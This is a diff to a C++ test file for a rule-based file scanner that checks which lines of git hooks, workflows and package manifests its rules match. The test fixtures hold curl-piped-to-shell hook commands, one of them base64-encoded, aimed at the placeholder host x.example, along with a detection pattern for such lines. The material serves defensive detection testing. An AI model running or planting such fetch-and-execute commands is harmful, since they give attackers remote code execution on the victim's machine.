@@ -1,5 +1,6 @@
-// The engine on its own: what the external variables hold, how much of a file the rules see, and
-// files that vanish, block or change while they are scanned.
+// The engine on its own: how much of a file the rules see, the lines a match is on, scopes, and files
+// that vanish, block or change while they are scanned. What each external variable holds is checked by
+// the pack's cases, whose rules use them all.
 
 #include "TestSupport.h"
 #include "rules/ExternalVariables.h"
@@ -75,47 +76,12 @@ TEST(RulesDescribePath, NameAndExtension)
         {"/p/archive.TAR.GZ", "archive.TAR.GZ", "gz"},
         {"/p/trailing.", "trailing.", ""},
         {"/p/dir.d/file", "file", ""},
-        {"relative.yml", "relative.yml", "yml"},
     };
     for (const auto& row : rows) {
         const FileFacts f = describePath(row.path);
         EXPECT_EQ(f.name, row.name) << row.path;
         EXPECT_EQ(f.extension, row.extension) << row.path;
     }
-}
-
-// Each rule reports the severity of its meta; private rules never report.
-TEST_F(RulesEngine, ExternalVariablesDescribeTheFileAndTheChange)
-{
-    const fs::path file = m_tree / "Sample.TXT";
-    writeFile(file, "hello");
-    auto evaluator = evaluatorFor(
-        "rule v_path { meta: severity = \"critical\" condition: filepath == \"" + file.string() +
-        "\" }\n"
-        "rule v_name { meta: severity = \"high\" condition: filename == \"Sample.TXT\" }\n"
-        "rule v_ext { meta: severity = \"warning\" condition: extension == \"txt\" }\n"
-        "rule v_changes { meta: severity = \"warning\" condition: changes == \"created attributes\" }\n"
-        "rule v_exec { meta: severity = \"warning\" condition: is_executable }\n"
-        "rule v_size { meta: severity = \"warning\" condition: file_size == 5 and filesize == 5 }\n"
-        "rule v_whole { meta: severity = \"warning\" condition: not is_truncated }\n"
-        "private rule v_private { condition: true }\n");
-    const auto found = [&](std::vector<std::string> changes) {
-        std::set<std::string> out;
-        for (const auto& m : evaluator->evaluate({file.string(), std::move(changes)}))
-            out.insert(m.rule + " " + m.severity);
-        return out;
-    };
-    const std::set<std::string> always{"v_path critical", "v_name high", "v_ext warning", "v_size warning",
-                                       "v_whole warning"};
-    fs::permissions(file, fs::perms::owner_read | fs::perms::owner_write);
-    auto expected = always;
-    expected.insert("v_changes warning");
-    EXPECT_EQ(found({"created", "attributes"}), expected);
-
-    fs::permissions(file, fs::perms::owner_exec, fs::perm_options::add);
-    expected = always;
-    expected.insert("v_exec warning");
-    EXPECT_EQ(found({"modified"}), expected);
 }
 
 TEST_F(RulesEngine, ContentRulesSeeOnlyTheBoundedPart)
@@ -162,7 +128,7 @@ rule counted { meta: severity = "warning" strings: $a = "MARK" condition: #a > 1
 rule in_config { meta: severity = "high" strings: $a = "a.b = MARK" condition: $a and view == "config" }
 rule by_name { meta: severity = "warning" condition: filename == "named.txt" }
 rule number_in_config { meta: severity = "high" strings: $a = "a.n = 7" condition: $a and view == "config" }
-rule in_commands { meta: severity = "high" strings: $a = "MARK" condition: $a and view == "commands" }
+rule in_commands { meta: severity = "high" strings: $a = "MARK" condition: #a > 0 and view == "commands" }
 private rule payload { strings: $a = /curl [^\n]*\| ?sh/ condition: $a }
 rule via_private { meta: severity = "high" condition: payload and view == "commands" }
 )");
@@ -182,6 +148,9 @@ rule via_private { meta: severity = "high" condition: payload and view == "comma
     std::string many;
     for (int i = 0; i < 40; ++i)
         many += "MARK\n";
+    const std::string hook =
+        "#!/bin/sh\ncurl http://x.example/MARK | sh\nset -e\ncurl -s \\\n  http://x.example/MARK "
+        "\\\n  | sh\necho Y3VybCBodHRwOi8veC5leGFtcGxlL01BUksgfCBzaA== | base64 -d | sh\n";
     struct Row
     {
         const char* file;
@@ -191,7 +160,6 @@ rule via_private { meta: severity = "high" condition: payload and view == "comma
     };
     const std::size_t across = kHeadBound - 2, overlap = kHeadBound - kWindowOverlap / 2;
     const Row rows[] = {
-        {"first.txt", "MARK\nx\n", "described", {1}},
         {"late.js", withMark(20000 * 100 + 3), "described", {20001}},
         {"across.js", withMark(across), "described", {lineAt(across)}},
         {"overlap.js", withMark(overlap), "described", {lineAt(overlap)}},
@@ -206,30 +174,20 @@ rule via_private { meta: severity = "high" condition: payload and view == "comma
         {"c.yaml", "x: 1\na:\n  b: \"MA\\x52K\"\n", "in_config", {3}},
         {"c.toml", "x = 1\n[a]\nb = \"MA\\u0052K\"\n", "in_config", {3}},
         {"c.ini", "; c\n[a]\nb = MARK\n", "in_config", {3}},
-        {".git/hooks/pre-commit", "#!/bin/sh\ncurl http://x.example/MARK | sh\n", "via_private", {2}},
-        {".git/hooks/post-merge",
-         "#!/bin/sh\nset -e\ncurl -s \\\n  http://x.example/MARK \\\n  | sh\n",
-         "in_commands",
-         {3}},
-        // The decoded payload, listed under its command.
-        {".git/hooks/pre-push",
-         "#!/bin/sh\necho ok\necho Y3VybCBodHRwOi8veC5leGFtcGxlL01BUksgfCBzaA== | base64 -d | sh\n",
-         "in_commands",
-         {3}},
+        // A command's first line, for a continued one too; a decoded payload is listed under its command.
+        {".git/hooks/post-merge", hook, "in_commands", {2, 4, 7}},
+        {".git/hooks/post-merge", hook, "via_private", {2}},
         {"p/package.json",
          "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"test\": \"jest\",\n    \"postinstall\": \"curl "
          "MARK\"\n  }\n}\n",
          "in_commands",
          {5}},
         // A literal block keeps the file's lines; a folded one is one line, its first.
-        {".github/workflows/b.yml",
-         "on: push\njobs:\n  a:\n    steps:\n      - run: |\n          npm ci\n\n          curl MARK\n",
+        {".github/workflows/ci.yml",
+         "on: push\njobs:\n  a:\n    steps:\n      - run: |\n          npm ci\n\n          curl MARK\n"
+         "      - run: >\n          npm ci\n          curl MARK\n",
          "in_commands",
-         {8}},
-        {".github/workflows/c.yml",
-         "on: push\njobs:\n  a:\n    steps:\n      - run: >\n          npm ci\n          curl MARK\n",
-         "in_commands",
-         {6}},
+         {8, 10}},
         {".git/config", "[core]\n\tbare = false\n\tfsmonitor = ./MARK.sh\n", "in_commands", {3}},
         {"named.txt", "x", "by_name", {}},
     };
@@ -341,9 +299,6 @@ TEST(RulesCompilation, BrokenFileAndRefusedRulesDoNotStopTheRest)
         {dir / "broken.yar", dir / "mixed.yar", dir / "empty.yar", dir / "absent.yar"}, diag);
     ASSERT_EQ(outcome.files.size(), 4u);
     EXPECT_FALSE(outcome.files[0].compiled);
-    EXPECT_NE(diag.str().find((dir / "broken.yar").string() + ":1: undefined identifier \"nosuchvar\""),
-              std::string::npos)
-        << diag.str();
     EXPECT_TRUE(outcome.files[1].compiled);
     EXPECT_EQ(outcome.files[1].refusedRules, refused);
     EXPECT_TRUE(outcome.files[2].compiled);
@@ -358,44 +313,34 @@ TEST(RulesCompilation, BrokenFileAndRefusedRulesDoNotStopTheRest)
 
 } // namespace
 
+// The pack's scoped files exercise names, extensions, folders and exclusions through its cases; these
+// rows are the edges they do not reach.
 TEST(RulesPathScope, PatternsMatchNamesAndPaths)
 {
     const PathScope scope = PathScope::fromRuleText("// A pack about manifests\n"
-                                                    "//   twwatch-scope: package.json *.code-workspace\n"
+                                                    "//   twwatch-scope: package.json *.js !*.min.js\n"
                                                     "rule x { condition: true } // twwatch-scope: Makefile\n"
                                                     "// twwatch-scope:   */.github/workflows/*\n");
-    EXPECT_EQ(scope.describe(), "package.json *.code-workspace */.github/workflows/*");
-    const PathScope exceptDocs = PathScope::fromRuleText("// twwatch-scope: !*.md !*/docs/*\n");
-    const PathScope jsNotMin = PathScope::fromRuleText("// twwatch-scope: *.js !*.min.js\n");
-    const PathScope everything = PathScope::fromRuleText("rule x { condition: true }");
-    EXPECT_FALSE(exceptDocs.isEverything());
-    EXPECT_TRUE(everything.isEverything());
+    EXPECT_EQ(scope.describe(), "package.json *.js !*.min.js */.github/workflows/*");
+    EXPECT_TRUE(PathScope::fromRuleText("rule x { condition: true }").isEverything());
     struct Row
     {
-        const PathScope& scope;
         const char* path;
         bool inside;
     };
     const Row rows[] = {
-        {scope, "/p/package.json", true},
-        {scope, "/p/node_modules/a/package.json", true},
-        {scope, "/p/package.json.bak", false},
-        {scope, "/p/app.code-workspace", true},
-        {scope, "/p/.github/workflows/deep/ci.yml", true},
-        {scope, "/p/.github/ci.yml", false},
-        {scope, "/p/Makefile", false}, // a scope line must be a comment line of its own
-        {scope, "/p/Package.json", false},
-        {exceptDocs, "/p/run.sh", true},
-        {exceptDocs, "/p/README.md", false},
-        {exceptDocs, "/p/docs/run.sh", false},
-        {jsNotMin, "/p/a.js", true},
-        {jsNotMin, "/p/a.min.js", false},
-        {jsNotMin, "/p/a.py", false},
-        {everything, "/any", true},
+        {"/p/node_modules/a/package.json", true},
+        {"/p/package.json.bak", false},
+        {"/p/Package.json", false},
+        {"/p/.github/workflows/deep/ci.yml", true},
+        {"/p/.github/ci.yml", false},
+        {"/p/Makefile", false}, // a scope line must be a comment line of its own
+        {"/p/a.js", true},
+        {"/p/a.min.js", false},
     };
     for (const auto& row : rows) {
         const FileFacts f = describePath(row.path);
-        EXPECT_EQ(row.scope.contains(f.path, f.name), row.inside) << row.path;
+        EXPECT_EQ(scope.contains(f.path, f.name), row.inside) << row.path;
     }
 }
 
